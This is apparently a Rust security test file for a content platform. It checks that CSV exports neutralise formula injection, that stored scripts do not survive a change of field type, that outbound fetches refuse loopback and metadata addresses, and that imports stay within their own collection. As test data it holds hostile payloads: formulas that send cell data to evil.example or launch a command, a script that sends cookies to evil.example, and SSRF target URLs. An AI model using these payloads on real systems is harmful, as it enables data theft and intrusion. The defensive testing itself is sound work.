//! Smaller holes: redirects to another host from a splat, formulas in CSV exports, values kept
//! across a field type change, outbound fetches to private networks.
//!
//! The redirect splat is applied by the edge, so its attack is in the edge's hostile suite
//! (`edge/tests/edge/hostile/protocol.rs`); the matcher's own vectors are in
//! `shared/src/redirects.rs`.

use std::{
    io::{BufRead, BufReader},
    process::{Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
};

use base64::Engine;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use vitrine_shared::{dual_test, testing::TestDb};

use crate::helpers::{Session, TestApp, expect_error, json_ok, records_by_slug, value_of};

/// A collection in a new project of `s`, with one field per `(name, type)`; returns the table
/// id and the field ids in order.
async fn collection(app: &TestApp, s: &Session, fields: &[(&str, &str)]) -> (i64, Vec<i64>) {
    let project = app.create_project(s, "Loja").await["id"].as_i64().unwrap();
    let body = json!({"project_id": project, "name": "Itens", "meta": {"plural": "Itens", "singular": "Item"}});
    let table = json_ok(app.post(s, "/api/tables", body).await).await["id"]
        .as_i64()
        .unwrap();
    let mut ids = Vec::new();
    for (name, kind) in fields {
        let body = json!({"table_id": table, "name": name, "type": kind});
        ids.push(
            json_ok(app.post(s, "/api/fields", body).await).await["id"]
                .as_i64()
                .unwrap(),
        );
    }
    (table, ids)
}

/// The records of a table by name: `name → post`.
async fn posts_by_name(app: &TestApp, s: &Session, table: i64) -> Vec<(String, Value)> {
    let list = json_ok(app.get(s, &format!("/api/data/{table}?limit=100")).await).await;
    let mut out = Vec::new();
    for p in list["posts"].as_array().unwrap() {
        let post = json_ok(app.get(s, &format!("/api/posts/{}", p["id"])).await).await;
        out.push((p["name"].as_str().unwrap().to_string(), post));
    }
    out.sort_by(|a, b| a.0.cmp(&b.0));
    out
}

dual_test! {
    async fn formulas_in_records_reach_a_spreadsheet_as_text_and_come_back_unchanged(app: TestApp) {
        let s = app.register("planilha@example.com").await;
        let (table, f) = collection(&app, &s, &[("Texto", "text"), ("Preço", "currency")]).await;
        let hostile = [
            ("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Clique\")", "+1+cmd|' /C calc'!A0", -1250),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", 990),
            ("Nome comum", "\t=1+1", -1),
            ("'=já marcado", "\r=1", 0),
        ];
        for (name, text, cents) in hostile {
            let body = json!({"table_id": table, "name": name, "fields": [
                {"field_id": f[0], "value": text}, {"field_id": f[1], "value": cents}]});
            json_ok(app.post(&s, "/api/posts", body).await).await;
        }
        let before = posts_by_name(&app, &s, table).await;
        let res = app.get(&s, &format!("/api/tables/{table}/export/csv")).await;
        assert_eq!(res.status(), StatusCode::OK);
        let csv = res.text().await.unwrap();

        // What a spreadsheet sees: no cell starts like a formula, except the amounts, which
        // are plain numbers as people write them ("-12,50").
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let headers = reader.headers().unwrap().clone();
        // name, slug, created_at, then the fields in order.
        let price_column = headers.iter().position(|h| h == "preco").unwrap();
        assert_eq!(headers.len(), price_column + 1, "no other price column");
        let mut rows = 0;
        for record in reader.records() {
            let record = record.unwrap();
            rows += 1;
            for (i, cell) in record.iter().enumerate() {
                if i == price_column {
                    let digits = cell.trim_start_matches('-').replace(['.', ','], "");
                    assert!(digits.parse::<u64>().is_ok() && cell.contains(','), "{cell:?} is a number");
                    continue;
                }
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "column {} would run as a formula: {cell:?}",
                    &headers[i]
                );
            }
        }
        assert_eq!(rows, hostile.len());

        // The file goes back in unchanged: delete everything, import it, compare.
        let ids: Vec<Value> = before.iter().map(|(_, p)| p["id"].clone()).collect();
        json_ok(app.call(&s, Method::DELETE, "/api/posts", Some(json!({"selected": ids}))).await).await;
        let content = format!(
            "data:text/plain;base64,{}",
            base64::engine::general_purpose::STANDARD.encode(&csv)
        );
        let res = app
            .post(&s, &format!("/api/tables/{table}/import"), json!({"name": "itens.csv", "content": content}))
            .await;
        assert_eq!(json_ok(res).await["inserted"], json!(hostile.len()));
        let after = posts_by_name(&app, &s, table).await;
        let names = |v: &[(String, Value)]| v.iter().map(|(n, _)| n.clone()).collect::<Vec<_>>();
        assert_eq!(names(&after), names(&before));
        for ((name, a), (_, b)) in after.iter().zip(&before) {
            for field in &f {
                assert_eq!(value_of(a, *field), value_of(b, *field), "{name}");
            }
        }
        let again = app.get(&s, &format!("/api/tables/{table}/export/csv")).await;
        assert_eq!(again.text().await.unwrap(), csv, "the same file again");
    }
}

dual_test! {
    async fn text_with_markup_turned_rich_text_never_keeps_a_script(app: TestApp) {
        let s = app.register("campos@example.com").await;
        let (table, f) = collection(&app, &s, &[("Descrição", "text")]).await;
        let field = f[0];
        let payload = "<p onmouseover=\"steal(document.cookie)\">Oferta</p>\
                       <script>fetch('//evil.example/?c='+document.cookie)</script>\
                       <img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">ver</a>";
        let body = json!({"table_id": table, "name": "Item", "fields": [{"field_id": field, "value": payload}]});
        let post = json_ok(app.post(&s, "/api/posts", body).await).await;
        // As text it is kept verbatim (and shown escaped).
        assert_eq!(value_of(&post, field), json!(payload));

        let retype = |kind: &str| json!({"name": "Descrição", "type": kind});
        json_ok(app.post(&s, &format!("/api/fields/{field}"), retype("wysiwyg")).await).await;
        let post = json_ok(app.get(&s, &format!("/api/posts/{}", post["id"])).await).await;
        let html = value_of(&post, field).as_str().unwrap().to_string();
        for bad in ["<script", "onmouseover", "onerror", "javascript:", "document.cookie"] {
            assert!(!html.contains(bad), "{bad} survived the change to rich text: {html}");
        }
        assert!(html.contains("<p>Oferta</p>"), "{html}");

        // Back to plain text: the markup goes, the words stay.
        json_ok(app.post(&s, &format!("/api/fields/{field}"), retype("textarea")).await).await;
        let post = json_ok(app.get(&s, &format!("/api/posts/{}", post["id"])).await).await;
        let text = value_of(&post, field).as_str().unwrap().to_string();
        assert!(!text.contains('<'), "{text}");
        assert!(text.contains("Oferta") && text.contains("ver"), "{text}");

        // A value the new type cannot hold is cleared rather than kept as it was.
        json_ok(app.post(&s, &format!("/api/fields/{field}"), retype("image")).await).await;
        let post = json_ok(app.get(&s, &format!("/api/posts/{}", post["id"])).await).await;
        assert!(matches!(value_of(&post, field), Value::Null | Value::String(_)));
        assert!(!value_of(&post, field).as_str().unwrap_or("").contains("Oferta"));
    }
}

dual_test! {
    async fn the_fetch_proxy_refuses_nat64_6to4_and_ports_other_than_the_web(app: TestApp) {
        let s = app.register("fetch@example.com").await;
        for (url, why) in [
            // NAT64 of loopback and of the cloud metadata address
            ("http://[64:ff9b::7f00:1]/", "private"),
            ("http://[64:ff9b::a9fe:a9fe]/latest/meta-data/", "private"),
            // local-use NAT64, 6to4 and Teredo reach IPv4 hosts we cannot judge
            ("http://[64:ff9b:1::808:808]/", "private"),
            ("http://[2002:7f00:1::1]/", "private"),
            ("http://[2001:0:4136:e378:8000:63bf:3fff:fdd2]/", "private"),
            // IPv4-mapped and -compatible loopback
            ("http://[::ffff:127.0.0.1]/", "private"),
            ("http://[::127.0.0.1]/", "private"),
            // other services of a public host
            ("http://1.1.1.1:6379/", "ports"),
            ("https://1.1.1.1:8443/", "ports"),
            ("http://example.com:25/", "ports"),
        ] {
            let q = url::form_urlencoded::byte_serialize(url.as_bytes()).collect::<String>();
            let res = app.get(&s, &format!("/api/fetch?url={q}")).await;
            let message = expect_error(res, StatusCode::UNPROCESSABLE_ENTITY).await;
            assert!(message.contains(why), "{url}: {message}");
        }
    }
}

/// A stand-in for a forward proxy: it answers every request with a JSON list, as if it had
/// fetched the page, and counts the connections it gets.
async fn fake_proxy() -> (std::net::SocketAddr, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let connections = Arc::new(AtomicUsize::new(0));
    let count = connections.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            count.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut head = [0u8; 4096];
                let _ = s.read(&mut head).await;
                let body = r#"[{"segredo": "do proxy"}]"#;
                let answer = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = s.write_all(answer.as_bytes()).await;
            });
        }
    });
    (addr, connections)
}

dual_test! {
    async fn outbound_fetches_ignore_proxy_variables_in_the_environment(db: TestDb) {
        let (proxy, connections) = fake_proxy().await;
        let proxy_url = format!("http://{proxy}");
        let dir = tempfile::tempdir().unwrap();
        // The real binary, with every proxy variable reqwest reads pointing at the proxy.
        let mut command = Command::new(env!("CARGO_BIN_EXE_vitrine-control"));
        command
            .arg("serve")
            .env("VITRINE_DATABASE_URL", &db.url)
            .env("VITRINE_DATA_DIR", dir.path())
            .env("VITRINE_DASHBOARD_DIR", dir.path())
            .env("VITRINE_CONTROL_LISTEN", "127.0.0.1:0")
            .env("VITRINE_CONTROL_ADMIN_LISTEN", "")
            .env_remove("NO_PROXY")
            .env_remove("no_proxy")
            .stdout(Stdio::piped())
            .stderr(Stdio::null());
        for var in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"] {
            command.env(var, &proxy_url);
        }
        let mut child = command.spawn().unwrap();
        let stdout = child.stdout.take().unwrap();
        // Read its output to the end (so it never writes into a closed pipe), watching for the
        // line with its address.
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if line.contains("vitrine-control listening on") {
                    let _ = tx.send(line);
                }
            }
        });
        let line = tokio::task::spawn_blocking(move || rx.recv_timeout(std::time::Duration::from_secs(60)))
            .await
            .unwrap()
            .expect("the control plane starts within a minute");
        let base = line
            .split_whitespace()
            .find(|w| w.starts_with("http://"))
            .unwrap()
            .trim_end_matches('/')
            .to_string();

        // The test's own client must not use the proxy either.
        let client = reqwest::Client::builder().cookie_store(true).no_proxy().build().unwrap();
        let res = client
            .post(format!("{base}/api/register"))
            .json(&json!({"name": "P", "email": "proxy@example.com", "password": "senha-segura-1"}))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::CREATED);
        // A name only a proxy would resolve: through the proxy the platform would fetch it
        // without ever checking where it points.
        let res = client
            .get(format!("{base}/api/fetch?url=http%3A%2F%2Fmetadata.vitrine-test.invalid%2Fdados.json"))
            .send()
            .await
            .unwrap();
        let status = res.status();
        let text = res.text().await.unwrap();
        let _ = child.kill();
        let _ = child.wait();
        assert!(!text.contains("segredo"), "fetched through the proxy: {text}");
        assert!(status.is_client_error(), "{status}: {text}");
        assert_eq!(connections.load(Ordering::SeqCst), 0, "the proxy was used");
    }
}

/// `POST /api/tables/{table}/import` of `file` (its name says CSV or JSON) as `s`.
async fn import_file(
    app: &TestApp,
    s: &Session,
    table: i64,
    name: &str,
    file: &str,
) -> reqwest::Response {
    let content = format!(
        "data:text/plain;base64,{}",
        base64::engine::general_purpose::STANDARD.encode(file)
    );
    app.post(
        s,
        &format!("/api/tables/{table}/import"),
        json!({"name": name, "content": content}),
    )
    .await
}

dual_test! {
    async fn an_import_updates_only_records_of_its_own_collection(app: TestApp) {
        let victim = app.register("vitima-import@example.com").await;
        let attacker = app.register("atacante-import@example.com").await;
        let (theirs, _) = collection(&app, &victim, &[]).await;
        let (mine, _) = collection(&app, &attacker, &[]).await;
        let (my_other, _) = collection(&app, &attacker, &[]).await;
        for (s, table, name) in [
            (&victim, theirs, "Bolo da vítima"),
            (&attacker, my_other, "Bolo da outra coleção"),
        ] {
            let body = json!({"table_id": table, "name": name, "slug": "bolo", "fields": []});
            json_ok(app.post(s, "/api/posts", body).await).await;
        }
        let victims_before = records_by_slug(&app, &victim, theirs).await;
        let other_before = records_by_slug(&app, &attacker, my_other).await;
        let victims_id = victims_before[0].2;

        // A record id in the file names no record: the column is refused, nothing is written.
        let json_file = json!([{"id": victims_id, "name": "Tomado", "slug": "bolo"}]).to_string();
        let res = import_file(&app, &attacker, mine, "x.json", &json_file).await;
        let body: Value = res.json().await.unwrap();
        assert_eq!((body["error"].as_str(), body["params"]["column"].as_str()), (Some("import_column_unknown"), Some("id")));
        assert!(records_by_slug(&app, &attacker, mine).await.is_empty());

        // The same slug imported into the attacker's own collection (upsert by slug, the
        // default): a new record there, then updated there, and nothing else.
        let json_file = json!([{"name": "Tomado", "slug": "bolo"}]).to_string();
        assert_eq!(json_ok(import_file(&app, &attacker, mine, "x.json", &json_file).await).await["inserted"], 1);
        let csv_file = "name,slug\nTomado de novo,bolo\n";
        assert_eq!(json_ok(import_file(&app, &attacker, mine, "x.csv", csv_file).await).await["updated"], 1);
        let now_mine = records_by_slug(&app, &attacker, mine).await;
        assert_eq!(now_mine.len(), 1, "{now_mine:?}");
        assert_eq!(now_mine[0].1, "Tomado de novo", "the second file updated the first's record");
        assert!(now_mine[0].2 != victims_id && now_mine[0].2 != other_before[0].2);
        assert_eq!(records_by_slug(&app, &victim, theirs).await, victims_before);
        assert_eq!(records_by_slug(&app, &attacker, my_other).await, other_before);

        // Importing straight into the victim's collection: 404, and nothing written.
        let res = import_file(&app, &attacker, theirs, "x.csv", "name,slug\nTomado,bolo\n").await;
        expect_error(res, StatusCode::NOT_FOUND).await;
        assert_eq!(records_by_slug(&app, &victim, theirs).await, victims_before);
    }
}
